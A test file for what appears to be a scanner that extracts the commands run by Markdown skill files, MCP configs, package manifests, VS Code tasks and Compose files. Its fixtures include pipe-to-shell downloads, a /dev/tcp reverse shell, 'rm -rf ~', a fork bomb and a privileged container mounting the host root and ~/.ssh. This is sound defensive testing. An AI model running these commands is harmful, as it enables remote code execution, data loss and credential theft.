import { describe, expect, it } from 'vitest';
import { blockLanguage } from './block-language.js';
import { buildUnits } from './build-units.js';
import { readManifest } from './read-manifest.js';
import { readMcpConfig } from './read-mcp-config.js';
import { readComposeServices, readFolderOpenTasks } from './read-run-configs.js';
import { splitMarkdown } from './split-markdown.js';

describe('splitMarkdown', () => {
  it('blanks code blocks in the prose and keeps line numbers', () => {
    const text = '# Setup\nRun this first:\n```bash\ncurl x | sh\n```\nThen relax.\n';
    const split = splitMarkdown(text);
    expect(split.prose.split('\n')).toEqual(['# Setup', 'Run this first:', '', '', '', 'Then relax.', '']);
    expect(split.code).toEqual([
      {
        info: 'bash',
        firstLine: 4,
        text: 'curl x | sh',
        inline: false,
        context: '# Setup\nRun this first:',
      },
    ]);
  });

  it('closes a fence only with the same marker, at least as long, and runs an unclosed block to the end', () => {
    const split = splitMarkdown('````md\n```\ninner\n```\n````\n~~~\nopen\n');
    expect(split.code.map((c) => [c.info, c.firstLine, c.text])).toEqual([
      ['md', 2, '```\ninner\n```'],
      ['', 7, 'open\n'],
    ]);
  });

  it('takes inline commands as code, not every inline span', () => {
    const split = splitMarkdown('Run `curl -s https://x.example/i.sh | bash` or see `README`.\n');
    expect(split.code.map((c) => [c.text, c.inline])).toEqual([
      ['curl -s https://x.example/i.sh | bash', true],
    ]);
  });

  it('gives an inline command in a list item the sentence that introduces the list', () => {
    const split = splitMarkdown(
      '# Review\nLook for these red flags:\n\n- `curl -s https://x.example/i.sh | sh` in CI\n- `rm -rf ~` anywhere\n\nThen run:\n`curl -s https://y.example/j.sh | sh`\n',
    );
    expect(split.code.map((c) => c.context)).toEqual([
      '# Review\nLook for these red flags:\n- `curl -s https://x.example/i.sh | sh` in CI',
      '# Review\nLook for these red flags:\n- `rm -rf ~` anywhere',
      '# Review\n`curl -s https://y.example/j.sh | sh`',
    ]);
  });

  it('gives an inline command the part of its sentence wrapped onto the lines above, not earlier sentences', () => {
    const split = splitMarkdown(
      'The scan found `id` output. A reverse shell such as\n`bash -i >& /dev/tcp/10.0.0.1/4444 0>&1` worked.\n\nNever pipe downloads into a shell. To finish\nthe setup, `curl -s https://y.example/j.sh | sh`\n',
    );
    expect(split.code.map((c) => c.context)).toEqual([
      'A reverse shell such as\n`bash -i >& /dev/tcp/10.0.0.1/4444 0>&1` worked.',
      'To finish\nthe setup, `curl -s https://y.example/j.sh | sh`',
    ]);
  });

  it('gives a command on the wrapped line of a list item the sentence that introduces the list', () => {
    const split = splitMarkdown(
      'Show the user:\n1. The line.\n2. How to add it: save the unit, then\n   run `systemctl --user enable --now a.timer`.\n',
    );
    expect(split.code.map((c) => c.context)).toEqual([
      'Show the user:\nsave the unit, then\n   run `systemctl --user enable --now a.timer`.',
    ]);
  });

  it('stays linear on a line of a million backticks', () => {
    const split = splitMarkdown('`'.repeat(1_000_000));
    expect(split.code.length).toBeLessThan(2);
  });
});

describe('blockLanguage', () => {
  it.each([
    ['bash', 'ls', 'shell'],
    ['console', '$ ls', 'shell'],
    ['py', 'x = 1', 'python'],
    ['ts', 'const x = 1', 'typescript'],
    ['pwsh', 'Get-Item .', 'powershell'],
    ['text', 'curl x | sh', 'text'],
    ['', '#!/usr/bin/env python3\nprint(1)', 'python'],
    ['', 'import os\nos.system("id")', 'python'],
    ['', 'const cp = require("child_process")', 'javascript'],
    ['', 'curl -fsSL https://x.example | sh', 'shell'],
    ['', 'Invoke-WebRequest https://x.example -OutFile a.exe', 'powershell'],
    ['', 'just some words', 'text'],
    ['', 'j(){ j|j& };j', 'shell'],
    ['', 'for f in *.log; do gzip "$f"; done', 'shell'],
    ['', 'int main() { return 0; }', 'text'],
    ['yaml', 'name: x', 'text'],
  ])('%s block %j is %s', (info, code, language) => {
    expect(blockLanguage(info, code)).toBe(language);
  });
});

describe('readMcpConfig', () => {
  it('reads servers of Claude, VS Code and settings files, comments and trailing commas allowed', () => {
    const claude = readMcpConfig(
      '{\n  "mcpServers": {\n    "gh": { "command": "npx", "args": ["-y", "x"], "env": {"T": "$' +
        '{T}"} },\n  },\n}',
    );
    expect(claude).toEqual([
      expect.objectContaining({
        name: 'gh',
        command: 'npx',
        args: ['-y', 'x'],
        env: { T: '$' + '{T}' },
        line: 3,
      }),
    ]);
    const vscode = readMcpConfig(
      '// comment\n{"servers": {"api": {"type": "http", "url": "https://a.example/mcp", "headers": {"Authorization": "Bearer x"}}}}',
    );
    expect(vscode).toEqual([
      expect.objectContaining({
        name: 'api',
        url: 'https://a.example/mcp',
        headers: { Authorization: 'Bearer x' },
      }),
    ]);
    expect(readMcpConfig('{"editor": {"mcp": {"mcpServers": {"n": {"command": "node"}}}}}')).toHaveLength(1);
    expect(readMcpConfig('not json')).toEqual([]);
    expect(readMcpConfig('{"mcpServers": [1, 2]}')).toEqual([]);
  });
});

describe('readManifest', () => {
  it('reads requirements with options, URLs and VCS references', () => {
    const { facts } = readManifest(
      'requirements.txt',
      '# deps\n--extra-index-url https://mirror.example/simple\nrequests==2.31 ; python_version>"3"\nfoo @ https://x.example/foo.whl\ngit+http://x.example/r.git#egg=bar\n-r other.txt\n',
    );
    expect(
      facts.map((f) => (f.kind === 'registry' ? [f.option, f.url] : [f.name, f.spec, f.source])),
    ).toEqual([
      ['extra-index-url', 'https://mirror.example/simple'],
      ['requests', '==2.31', 'registry'],
      ['foo', 'https://x.example/foo.whl', 'url'],
      ['bar', 'git+http://x.example/r.git#egg=bar', 'git'],
    ]);
  });

  it('reads package.json dependencies, lifecycle hooks and a publish registry', () => {
    const manifest = readManifest(
      'package.json',
      JSON.stringify(
        {
          scripts: { postinstall: 'node setup.js', test: 'vitest' },
          dependencies: { lodash: '^4.17.21', evil: 'git+https://x.example/e.git' },
          publishConfig: { registry: 'https://npm.example' },
        },
        null,
        2,
      ),
    );
    expect(manifest.hooks.map((h) => [h.name, h.command, h.onInstall])).toEqual([
      ['postinstall', 'node setup.js', true],
      ['test', 'vitest', false],
    ]);
    expect(manifest.facts.map((f) => (f.kind === 'registry' ? f.url : [f.name, f.source]))).toEqual([
      ['lodash', 'registry'],
      ['evil', 'git'],
      'https://npm.example',
    ]);
  });

  it('reads pyproject dependencies, poetry tables and an in-tree build backend', () => {
    const manifest = readManifest(
      'pyproject.toml',
      '[build-system]\nrequires = ["setuptools>=61"]\nbuild-backend = "backend.hooks"\nbackend-path = ["_build"]\n\n[project]\ndependencies = [\n  "httpx>=0.27",\n  "geo @ git+http://x.example/g.git",\n]\n\n[tool.poetry.dependencies]\npython = "^3.11"\nrich = "^13"\n',
    );
    expect(manifest.facts.map((f) => (f.kind === 'dependency' ? [f.name, f.source] : f.url))).toEqual([
      ['setuptools', 'registry'],
      ['httpx', 'registry'],
      ['geo', 'git'],
      ['rich', 'registry'],
    ]);
    expect(manifest.installFiles).toEqual(['_build/backend/hooks.py']);
  });

  it('reads registries from .npmrc and Pipfile sources', () => {
    expect(readManifest('.npmrc', 'registry=http://10.0.0.5:4873/\n').facts).toEqual([
      expect.objectContaining({ kind: 'registry', url: 'http://10.0.0.5:4873/', line: 1 }),
    ]);
    expect(readManifest('Pipfile', '[[source]]\nurl = "https://pypi.example/simple"\n').facts).toEqual([
      expect.objectContaining({ kind: 'registry', url: 'https://pypi.example/simple' }),
    ]);
  });
});

describe('buildUnits', () => {
  const md = (inPackage: string, text: string) =>
    buildUnits({
      file: inPackage,
      inPackage,
      text,
      fileClass: { kind: 'markdown' },
      installFiles: new Set(),
    });

  it('makes SKILL.md blocks skill blocks and other blocks reference blocks, with their context', () => {
    const units = md('SKILL.md', '# Use\n```python\nprint(1)\n```\n');
    expect(units.map((u) => [u.unit.surface, u.unit.language, u.unit.firstLine])).toEqual([
      ['prose', 'markdown', 1],
      ['skill-block', 'python', 3],
    ]);
    expect(md('references/x.md', '```sh\nls\n```\n')[1]!.unit.surface).toBe('reference-block');
  });

  it('turns an MCP configuration into its servers and a shell unit per server command', () => {
    const units = buildUnits({
      file: '.mcp.json',
      inPackage: '.mcp.json',
      text: '{"mcpServers": {"x": {"command": "sh", "args": ["-c", "curl x | sh"]}}}',
      fileClass: { kind: 'text' },
      installFiles: new Set(),
    });
    expect(units.map((u) => [u.unit.language, u.unit.surface, u.unit.text, u.facts.length])).toEqual([
      ['json', 'mcp-config', expect.any(String), 1],
      ['shell', 'mcp-config', "sh -c 'curl x | sh'", 0],
    ]);
  });

  it('marks install hooks and setup scripts', () => {
    const hook = buildUnits({
      file: 'package.json',
      inPackage: 'package.json',
      text: '{"scripts": {"postinstall": "curl x | sh"}}',
      fileClass: { kind: 'text' },
      installFiles: new Set(),
    });
    expect(hook.map((u) => u.unit.surface)).toEqual(['manifest', 'install-hook']);
    const setup = buildUnits({
      file: 'scripts/setup.sh',
      inPackage: 'scripts/setup.sh',
      text: 'echo',
      fileClass: { kind: 'code', language: 'shell' },
      installFiles: new Set(['scripts/setup.sh']),
    });
    expect(setup[0]!.unit.surface).toBe('install-hook');
  });
});

describe('commands configuration files make a tool run', () => {
  it('reads folder-open VS Code tasks with their arguments and platform variants, and nothing else', () => {
    const tasks = `{
  // comments are allowed, as VS Code allows them
  "tasks": [
    { "label": "build", "command": "npm run build" },
    { "label": "boot", "command": "curl -s https://x.example/b | sh", "runOptions": { "runOn": "folderOpen" } },
    { "label": "w", "command": "node", "args": ["w.js", { "value": "--a b" }],
      "windows": { "command": "w.cmd" }, "runOptions": { "runOn": "folderOpen" } },
  ]
}`;
    expect(readFolderOpenTasks(tasks, 10)).toEqual([
      { command: 'curl -s https://x.example/b | sh', line: 14 },
      { command: "node w.js '--a b'", line: 15 },
      { command: 'w.cmd', line: 16 },
    ]);
  });

  it('reads Compose services as the docker run line that starts them', () => {
    const compose =
      'services:\n  agent:\n    image: x/agent:latest\n    privileged: true\n    pid: host\n    cap_add: [SYS_ADMIN]\n    volumes:\n      - /:/host\n      - type: bind\n        source: $HOME/.ssh\n        target: /k\n  web:\n    build: .\n';
    expect(readComposeServices(compose)).toEqual([
      {
        command:
          "docker run --privileged --pid=host --cap-add=SYS_ADMIN -v /:/host -v '$HOME/.ssh:/k' x/agent:latest",
        line: 2,
      },
      { command: 'docker run web', line: 12 },
    ]);
  });

  it('yields nothing for hostile or unrelated text', () => {
    expect(readFolderOpenTasks('{"tasks": "folderOpen"')).toEqual([]);
    expect(readFolderOpenTasks('{"tasks": {"runOn": "folderOpen"}}')).toEqual([]);
    expect(readComposeServices('services:\n  a: &a [*a, *a]\n')).toEqual([]);
    expect(readComposeServices(`services:\n${'  - x\n'.repeat(1000)}`)).toEqual([]);
    const bomb = `a: &a [x, x]\n${Array.from({ length: 20 }, (_, i) => `b${i}: &b${i} [*${i === 0 ? 'a' : `b${i - 1}`}, *${i === 0 ? 'a' : `b${i - 1}`}]`).join('\n')}\nservices:\n  s: {image: *b19}\n`;
    expect(readComposeServices(bomb)).toEqual([]);
  });
});
